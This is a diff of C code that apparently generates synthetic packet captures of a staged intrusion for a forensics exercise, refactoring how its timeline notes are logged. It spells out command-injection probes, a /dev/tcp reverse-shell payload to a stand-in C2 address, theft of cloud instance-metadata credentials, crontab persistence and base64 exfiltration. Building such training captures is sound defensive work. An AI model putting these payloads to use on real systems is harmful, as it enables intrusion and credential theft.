@@ -19,12 +19,6 @@
 #define UA_CURL "curl/7.88.1"
 #define UA_PY "python-requests/2.31.0"
 
-static void note(struct ci_world *cw, int64_t t, const char *what, int mark)
-{
-    char ts[TF_LEN];
-    sb_f(&cw->notes, "%s  %s\n    %s @%d@\n\n", tf_iso_us(ts, t), what, CI_PCAP, mark);
-}
-
 /* One request/response on the attacker's HTTP session to the API. */
 static void attacker_get(struct ci_world *cw, struct pcap_tcp *s, const char *uri,
                          const char *ua, int code, const char *body, int64_t think)
@@ -118,10 +112,9 @@ static int64_t reverse_shell(struct ci_world *cw, int64_t t)
     struct pcap_tcp s;
     struct pcap_host c2 = ci_remote(cw, CI_ATTACKER_C2_IP, 46);
     struct sb o = {0}, csv = {0};
-    int m = ci_mark(cw);
+    ci_note(cw, t, "reverse shell: the VM connects to " CI_ATTACKER_C2_IP ":3000 (no DNS lookup "
+            "of that address anywhere in the capture); session lasts until 15:58");
     ci_open(cw, &s, t, 96000, &cw->vm, -1, &c2, CI_C2_PORT);
-    note(cw, t, "reverse shell: the VM connects to " CI_ATTACKER_C2_IP ":3000 (no DNS lookup "
-         "of that address anywhere in the capture); session lasts until 15:58", m);
     const char *banner = "sh: 0: can't access tty; job control turned off\n$ ";
     pcap_tcp_send(&s, 1, banner, strlen(banner));
     shell(&s, 4200000, "id\n", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
@@ -153,9 +146,8 @@ static int64_t reverse_shell(struct ci_world *cw, int64_t t)
                        "security-credentials/\n";
     pcap_tcp_wait(&s, 41000000);
     pcap_tcp_send(&s, 0, cmd1, strlen(cmd1));
-    m = ci_mark(cw);
+    ci_note(cw, s.t + 3000, "instance metadata (IMDSv1, no token): the role name " CI_ROLE);
     imds_get(cw, s.t + 3000, "/latest/meta-data/iam/security-credentials/", CI_ROLE);
-    note(cw, s.t + 3000, "instance metadata (IMDSv1, no token): the role name " CI_ROLE, m);
     pcap_tcp_wait(&s, 9000);
     pcap_tcp_send(&s, 1, CI_ROLE "$ ", strlen(CI_ROLE "$ "));
     char key[21], secret[41], token[161], creds[900];
@@ -170,10 +162,9 @@ static int64_t reverse_shell(struct ci_world *cw, int64_t t)
                        "security-credentials/" CI_ROLE "\n";
     pcap_tcp_wait(&s, 7000000);
     pcap_tcp_send(&s, 0, cmd2, strlen(cmd2));
-    m = ci_mark(cw);
+    ci_note(cw, s.t + 3000, "instance metadata: temporary credentials of arn:aws:iam::"
+            CI_ACCOUNT ":role/" CI_ROLE " (AccessKeyId ASIA...) read and echoed into the shell");
     imds_get(cw, s.t + 3000, "/latest/meta-data/iam/security-credentials/" CI_ROLE, creds);
-    note(cw, s.t + 3000, "instance metadata: temporary credentials of arn:aws:iam::" CI_ACCOUNT
-         ":role/" CI_ROLE " (AccessKeyId ASIA...) read and echoed into the shell", m);
     pcap_tcp_wait(&s, 9000);
     sb_s(&o, creds);
     sb_s(&o, "$ ");
@@ -182,9 +173,8 @@ static int64_t reverse_shell(struct ci_world *cw, int64_t t)
 
     /* Persistence: a crontab entry that calls back every 15 minutes. */
     pcap_tcp_wait(&s, 6 * 60 * 1000000LL);
-    m = ci_mark(cw);
-    note(cw, s.t, "persistence: www-data's crontab gets `" CI_CRON_LINE "` (typed in the "
-         "shell)", m);
+    ci_note(cw, s.t, "persistence: www-data's crontab gets `" CI_CRON_LINE "` (typed in the "
+            "shell)");
     shell(&s, 0, "(crontab -l 2>/dev/null; echo \"" CI_CRON_LINE "\") | crontab -\n", "");
     shell(&s, 8000000, "crontab -l\n", CI_CRON_LINE "\n");
 
@@ -202,11 +192,10 @@ static int64_t reverse_shell(struct ci_world *cw, int64_t t)
     pcap_tcp_wait(&s, 31000000);
     pcap_tcp_send(&s, 0, cmd3, strlen(cmd3));
     pcap_tcp_wait(&s, 120000);
-    m = ci_mark(cw);
     char what[200];
     snprintf(what, sizeof what, "exfiltration: data/exports/" CI_EXPORT " (%zu bytes of CSV, "
              "%zu gzip'd) sent base64 over the shell to " CI_ATTACKER_C2_IP ":3000", csv.n, gzn);
-    note(cw, s.t, what, m);
+    ci_note(cw, s.t, what);
     sb_s(&o, "$ ");
     pcap_tcp_send(&s, 1, o.p, o.n);
     free(gzp);
@@ -233,10 +222,9 @@ static void callbacks(struct ci_world *cw)
         int64_t t = ci_at(cw, 14 + k / 4, (k % 4) * 15, 0, (int)rng_range(1000, 40000));
         if (k / 4 == 5 && k % 4 == 2) {
             struct pcap_tcp s;
-            int m = ci_mark(cw);
+            ci_note(cw, t, "a cron callback is answered: second shell session to "
+                    CI_ATTACKER_C2_IP ":3000 (whoami, crontab -l, exit)");
             ci_open(cw, &s, t, 96000, &cw->vm, -1, &c2, CI_C2_PORT);
-            note(cw, t, "a cron callback is answered: second shell session to "
-                 CI_ATTACKER_C2_IP ":3000 (whoami, crontab -l, exit)", m);
             const char *banner = "sh: 0: can't access tty; job control turned off\n$ ";
             pcap_tcp_send(&s, 1, banner, strlen(banner));
             shell(&s, 6000000, "whoami\n", "www-data\n");
@@ -247,11 +235,10 @@ static void callbacks(struct ci_world *cw)
             pcap_tcp_close(&s, 1);
             continue;
         }
-        int m = ci_mark(cw);
-        ci_refused(cw, t, 96000, &c2, CI_C2_PORT);
         if (first)
-            note(cw, t, "first cron callback to " CI_ATTACKER_C2_IP ":3000, refused (RST); "
-                 "one every 15 minutes until midnight", m);
+            ci_note(cw, t, "first cron callback to " CI_ATTACKER_C2_IP ":3000, refused (RST); "
+                    "one every 15 minutes until midnight");
+        ci_refused(cw, t, 96000, &c2, CI_C2_PORT);
         first = 0;
     }
 }
@@ -261,11 +248,10 @@ void ci_attack(struct ci_world *cw)
     struct pcap_tcp s;
     struct pcap_host att = ci_remote(cw, CI_ATTACKER_WEB_IP, 47);
     int64_t t = ci_at(cw, 13, 41, 5, 218000);
-    int m = ci_mark(cw);
 
     /* Recon with curl: what the endpoint does. */
+    ci_note(cw, t, "recon from " CI_ATTACKER_WEB_IP " (curl): /, /api/v1/, /dangerzone");
     ci_open(cw, &s, t, 71000, &att, 0, &cw->vm, 80);
-    note(cw, t, "recon from " CI_ATTACKER_WEB_IP " (curl): /, /api/v1/, /dangerzone", m);
     attacker_get(cw, &s, "/", UA_CURL, 404, "{\"error\":\"not found\"}", 1800);
     pcap_tcp_wait(&s, 2400000);
     attacker_get(cw, &s, "/api/v1/", UA_CURL, 404, "{\"error\":\"not found\"}", 1700);
@@ -281,18 +267,16 @@ void ci_attack(struct ci_world *cw)
     /* Injection probes: the command's output comes back in the JSON. */
     t = ci_at(cw, 13, 43, 38, 602000);
     ci_open(cw, &s, t, 71000, &att, 0, &cw->vm, 80);
-    m = ci_mark(cw);
     pcap_tcp_wait(&s, 1);
-    note(cw, s.t, "injection probe: GET /dangerzone?category=fashion%26%26id answers "
-         "uid=33(www-data)", m);
+    ci_note(cw, s.t, "injection probe: GET /dangerzone?category=fashion%26%26id answers "
+            "uid=33(www-data)");
     attacker_get(cw, &s, "/dangerzone?category=fashion%26%26id", UA_CURL, 200,
                  "{\"category\":\"fashion&&id\",\"export\":\"exported 41 items to "
                  "data/exports/fashion.json\\nuid=33(www-data) gid=33(www-data) "
                  "groups=33(www-data)\\n\"}", 41000);
     pcap_tcp_wait(&s, 21000000);
-    m = ci_mark(cw);
-    note(cw, s.t, "injection probe: GET /dangerzone?category=fashion%26%26sleep+5 answers "
-         "5 s later", m);
+    ci_note(cw, s.t, "injection probe: GET /dangerzone?category=fashion%26%26sleep+5 answers "
+            "5 s later");
     attacker_get(cw, &s, "/dangerzone?category=fashion%26%26sleep+5", UA_CURL, 200,
                  "{\"category\":\"fashion&&sleep 5\",\"export\":\"exported 41 items to "
                  "data/exports/fashion.json\\n\"}", 5043000);
@@ -307,10 +291,9 @@ void ci_attack(struct ci_world *cw)
                   "198.51.100.23%2F3000+0%3E%261", "api.shopfront.example", UA_PY,
                   "Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nConnection: keep-alive\r\n",
                   NULL, 0);
-    m = ci_mark(cw);
-    note(cw, h.t, "initial access: GET /dangerzone?category=fashion&&sh -i >& "
-         "/dev/tcp/198.51.100.23/3000 0>&1 (URL-encoded) from " CI_ATTACKER_WEB_IP
-         "; the response only comes when the shell exits", m);
+    ci_note(cw, h.t, "initial access: GET /dangerzone?category=fashion&&sh -i >& "
+            "/dev/tcp/198.51.100.23/3000 0>&1 (URL-encoded) from " CI_ATTACKER_WEB_IP
+            "; the response only comes when the shell exits");
     pcap_tcp_send(&h, 1, rq.p, rq.n);
     cw->http_requests++;
     int64_t end = reverse_shell(cw, h.t + 181000);
